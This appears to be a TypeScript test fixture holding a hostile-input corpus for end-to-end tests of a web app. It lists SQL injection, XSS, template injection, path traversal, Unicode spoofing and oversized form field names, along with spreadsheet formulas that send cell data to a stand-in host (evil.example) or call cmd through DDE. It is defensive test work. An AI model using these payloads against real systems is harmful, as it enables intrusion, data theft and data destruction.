import fs from "node:fs";
import { createRequire } from "node:module";

// The hostile-input corpus (issue 5, item 5): the maintained Big List of
// Naughty Strings plus our own families, each string labelled with where it
// came from so a failure names the input that caused it. Shared by the
// Playwright suites (tests/e2e/hostile-*.spec.ts) and the property tests.

export type HostileFamily =
  | "blns"
  | "sql"
  | "xss"
  | "template"
  | "path"
  | "formula"
  | "overlong"
  | "unicode";

export type HostileString = { family: HostileFamily; label: string; value: string };

const require = createRequire(import.meta.url);
const blns: string[] = JSON.parse(fs.readFileSync(require.resolve("big-list-of-naughty-strings/blns.json"), "utf8"));

/**
 * Markers: our XSS payloads set window.__hostile or open a dialog, and every
 * injected element carries data-hostile, so a page that ran or built one is
 * caught (tests/hostile/render.ts) even if no dialog opens.
 */
export const XSS_MARK = "data-hostile";

const sql = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "\" OR \"\"=\"",
  "'; DROP TABLE \"Programme\"; --",
  "1; DELETE FROM \"AuditEvent\" WHERE 1=1; --",
  "' UNION SELECT \"passwordHash\" FROM \"User\" --",
  "admin'--",
  "1' AND SLEEP(5) AND '1'='1",
  "'; SELECT pg_sleep(5); --",
  "1)) OR ((1=1",
  "%' AND 1=0 UNION SELECT NULL, version() --",
  "\\'; COPY (SELECT '') TO PROGRAM 'touch /tmp/hostile-pwned'; --",
  "$$; DROP TABLE \"Session\"; $$",
  "E'\\x00'",
  "' || (SELECT current_user) || '",
  "'/**/OR/**/1=1",
  "0x27 OR 0x31=0x31",
  "'; UPDATE \"User\" SET role='ADMIN'; --",
  "\\\\' OR 1=1 #",
  "' AND extractvalue(1,concat(0x7e,version())) --",
  "{\"$gt\": \"\"}",
  "'; EXEC xp_cmdshell('dir'); --",
];

const xss = [
  `<script ${XSS_MARK}>alert("xss-script")</script>`,
  `<script ${XSS_MARK}>window.__hostile=1</script>`,
  `"><script ${XSS_MARK}>alert(document.domain)</script>`,
  `'><script ${XSS_MARK}>alert(1)</script>`,
  `</title><script ${XSS_MARK}>alert("title")</script>`,
  `</textarea><script ${XSS_MARK}>alert("textarea")</script>`,
  `<img src=x onerror="alert('img')" ${XSS_MARK}>`,
  `<img src=x onerror=window.__hostile=1 ${XSS_MARK}>`,
  `<svg onload=alert("svg") ${XSS_MARK}>`,
  `<svg ${XSS_MARK}><script>alert("svg-script")</script></svg>`,
  `<body onload=alert("body") ${XSS_MARK}>`,
  `<iframe src="javascript:alert('iframe')" ${XSS_MARK}></iframe>`,
  `<iframe srcdoc="<script>parent.alert('srcdoc')</script>" ${XSS_MARK}></iframe>`,
  `<a href="javascript:alert('link')" ${XSS_MARK}>click</a>`,
  "javascript:alert('url')",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  `" onmouseover="alert('attr')" ${XSS_MARK}="`,
  `' onfocus='alert(1)' autofocus '`,
  `" autofocus onfocus="window.__hostile=1`,
  `<details open ontoggle=alert("details") ${XSS_MARK}>`,
  `<input autofocus onfocus=alert("input") ${XSS_MARK}>`,
  `<video><source onerror="alert('video')" ${XSS_MARK}></video>`,
  `<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert("mxss")></style></mtext></svg></mglyph></math>`,
  `<object data="javascript:alert('object')" ${XSS_MARK}></object>`,
  `<embed src="javascript:alert('embed')" ${XSS_MARK}>`,
  `<base href="https://evil.example/" ${XSS_MARK}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert('meta')" ${XSS_MARK}>`,
  `<form action="https://evil.example/" ${XSS_MARK}><button>go</button></form>`,
  `<style ${XSS_MARK}>body{background:url("javascript:alert('css')")}</style>`,
  "<!--<img src=x onerror=alert('comment')>-->",
  "<![CDATA[<script>alert('cdata')</script>]]>",
  "&lt;script&gt;alert('entity')&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  `</script><script ${XSS_MARK}>alert("json-breakout")</script>`,
  "\u2028\u2029</script><script>alert('ls')</script>",
  `<scr<script>ipt ${XSS_MARK}>alert("nested")</scr</script>ipt>`,
  `<noscript><p title="</noscript><img src=x onerror=alert('noscript')>">`,
  `"><svg/onload=alert(String.fromCharCode(88,83,83)) ${XSS_MARK}>`,
  `<a ${XSS_MARK} href="&#x6A;avascript:alert('entity-url')">x</a>`,
];

const template = [
  "{{7*7}}",
  "${7*7}",
  "#{7*7}",
  "<%= 7*7 %>",
  "{{constructor.constructor('alert(\"tpl\")')()}}",
  "${alert('tpl')}",
  "{{__proto__}}",
  "{% for x in range(10) %}x{% endfor %}",
  "[[${7*7}]]",
  "@(7*7)",
];

const path = [
  "../../../../etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "/etc/shadow",
  "C:\\Windows\\System32\\drivers\\etc\\hosts",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "..%252f..%252fetc%252fpasswd",
  "....//....//etc/passwd",
  "file:///etc/passwd",
  "\\\\evil.example\\share\\x.pdf",
  "/proc/self/environ",
  "../../../../../../../../../../../../tmp/hostile",
  "..%c0%af..%c0%afetc/passwd",
  "/dev/zero",
];

const formula = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")",
  "+1+1",
  "-1+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
  "=IMPORTXML(CONCAT(\"https://evil.example/?v=\",A1),\"//a\")",
  "=WEBSERVICE(\"https://evil.example/\")",
  "-2+3+cmd|' /C calc'!A0",
  "+thisIsNotANumber",
  "@thisIsAMention",
  "=1+1\n=2+2",
  "==1",
];

const unicode = [
  "invoice\u202Efdp.exe",
  "\u202Eevil\u202C normal",
  "\u2066isolate\u2069 and \u2067rtl\u2069",
  "zero\u200Bwidth\u200Cjoiner\u200Dspaces\uFEFF",
  "\u200B",
  "\uFEFF",
  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034DA\u036B\u0357\u0334\u0362\u0335\u031C\u0330\u0354L",
  "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
  "👩‍👩‍👧‍👦🏳️‍🌈🇰🇷🇧🇾🇰🇿",
  "𝕳𝖔𝖘𝖙𝖎𝖑𝖊 𝟙𝟚𝟛",
  "\uD800 lone high surrogate",
  "lone low surrogate \uDC00",
  "\uDBFF\uDFFF max code point",
  "NUL\u0000inside",
  "\u0000",
  "bell\u0007 backspace\b escape\u001B[31mred\u001B[0m",
  "vertical\u000Btab form\u000Cfeed",
  "DEL\u007F C1\u0085\u009B",
  "Ｆｕｌｌ－ｗｉｄｔｈ　ｔｅｘｔ＜ｓｃｒｉｐｔ＞",
  "＝１＋１",
  "Раураl Ministry of Неаlth", // Cyrillic homoglyphs
  "аdmin@concord.demo", // Cyrillic a
  "보건복지부 협력 사업",
  "\u1100\u1161\u11A8 (jamo) vs \uAC01",
  "Caf\u00E9 NFC",
  "Cafe\u0301 NFD",
  "\uAC00 NFC hangul",
  "\u1100\u1161 NFD hangul",
  "ﷺ ﷽",
  "line1\nline2\r\nline3\rline4",
  "\u2028line separator\u2029paragraph separator",
  "  leading and trailing spaces  ",
  "\u00A0\u3000nbsp ideographic\u00A0",
  "tab\tinside",
  "\uFFFE\uFFFF nonchars",
  "\u{E0001}\u{E0041}tag chars",
  "İ ı ß ẞ ﬃ",
  "عربي مع English مختلط",
  "עברית",
];

function overlong(): HostileString[] {
  const out: HostileString[] = [
    { family: "overlong", label: "300 ASCII", value: "a".repeat(300) },
    { family: "overlong", label: "301 ASCII", value: "a".repeat(301) },
    { family: "overlong", label: "120 Korean", value: "가".repeat(120) },
    { family: "overlong", label: "2000 chars", value: "x".repeat(2000) },
    { family: "overlong", label: "2001 chars", value: "x".repeat(2001) },
    { family: "overlong", label: "5001 chars", value: "y".repeat(5001) },
    { family: "overlong", label: "10k chars", value: "A".repeat(10_000) },
    { family: "overlong", label: "10k emoji", value: "😀".repeat(10_000) },
    { family: "overlong", label: "100k chars", value: "B".repeat(100_000) },
    { family: "overlong", label: "100k combining", value: "e" + "\u0301".repeat(99_999) },
    { family: "overlong", label: "deep nesting", value: "<div>".repeat(2000) },
    { family: "overlong", label: "one long word 5000", value: "W".repeat(5000) },
  ];
  return out;
}

const label = (family: HostileFamily, list: string[]): HostileString[] =>
  list.map((value, i) => ({ family, label: `${family} #${i}: ${JSON.stringify(value).slice(0, 60)}`, value }));

export const CORPUS: HostileString[] = [
  ...label("blns", blns),
  ...label("sql", sql),
  ...label("xss", xss),
  ...label("template", template),
  ...label("path", path),
  ...label("formula", formula),
  ...overlong(),
  ...label("unicode", unicode),
];

/** The XSS-like strings: those that would build markup or run script if rendered raw. */
export function isMarkup(value: string): boolean {
  return /<\s*[a-z!/?]/i.test(value) || /javascript:/i.test(value) || /\bon[a-z]+\s*=/i.test(value);
}

/**
 * A sample that keeps every family: all of the short families plus every
 * n-th string of the naughty-strings list. Used where the whole corpus
 * would cost too much (editing forms, each field on its own).
 */
export function sampleCorpus(size: number, seed = 0): HostileString[] {
  const mine = CORPUS.filter((s) => s.family !== "blns" && s.family !== "overlong");
  const long = CORPUS.filter((s) => ["301 ASCII", "5001 chars", "10k emoji"].includes(s.label));
  const fromBlns = CORPUS.filter((s) => s.family === "blns");
  const want = Math.max(0, size - long.length);
  const picked: HostileString[] = [];
  const all = [...mine, ...fromBlns];
  const step = Math.max(1, all.length / Math.max(1, want));
  for (let i = seed % Math.max(1, Math.floor(step)); i < all.length && picked.length < want; i += step) picked.push(all[Math.floor(i)]);
  return [...picked, ...long];
}

/**
 * What a string becomes on its way through an HTML form: the browser sends
 * UTF-8, so a lone surrogate arrives as U+FFFD. The server then applies the
 * documented normalisation of text fields (app/schemas/fields.ts: cleanText).
 */
export function asSent(value: string): string {
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(new TextEncoder().encode(value));
}

/**
 * Field names that ask the form parser (app/utils/form.ts) for more work than
 * any form needs: each goes past one of FORM_LIMITS (app/utils/limits.ts) and
 * must be answered 400 at once, never 500 and never after a long walk. From
 * an outside probe: "a.1000000000.b" stalled the server for a minute and a
 * name of 3,000 dotted segments overflowed the stack.
 */
export const OVER_LIMIT_FIELD_NAMES: { label: string; entries: [string, string][] }[] = [
  { label: "an index of a billion", entries: [["a.1000000000.b", "1"]] },
  { label: "an index past 2^53", entries: [["rows.99999999999999999999.x", "1"]] },
  { label: "an index of 1000", entries: [["parties.1000.role", "1"]] },
  { label: "3,000 dotted segments", entries: [[Array.from({ length: 3000 }, () => "a").join("."), "1"]] },
  { label: "50 short segments", entries: [[Array.from({ length: 50 }, (_, i) => String(i % 10)).join("."), "1"]] },
  { label: "a 10,000-character name", entries: [["n".repeat(10_000), "1"]] },
  { label: "5,000 fields", entries: Array.from({ length: 5000 }, (_, i) => [`f${i}`, "1"] as [string, string]) },
];

/** Odd names within the limits: the parser takes them (the form is refused or ignores them), never 500. */
export const ODD_FIELD_NAMES: [string, string][] = [
  ["rows.length.x", "1"], ["rows.0", "a"], ["rows.0.x", "b"], ["toString", "1"], ["hasOwnProperty.x", "1"], ["valueOf.0", "1"],
  ["email.0", "x"], [".", "1"], ["..", "1"], ["a..b", "1"], ["", "1"], ["__proto__.x", "1"], ["constructor.prototype.x", "1"],
];
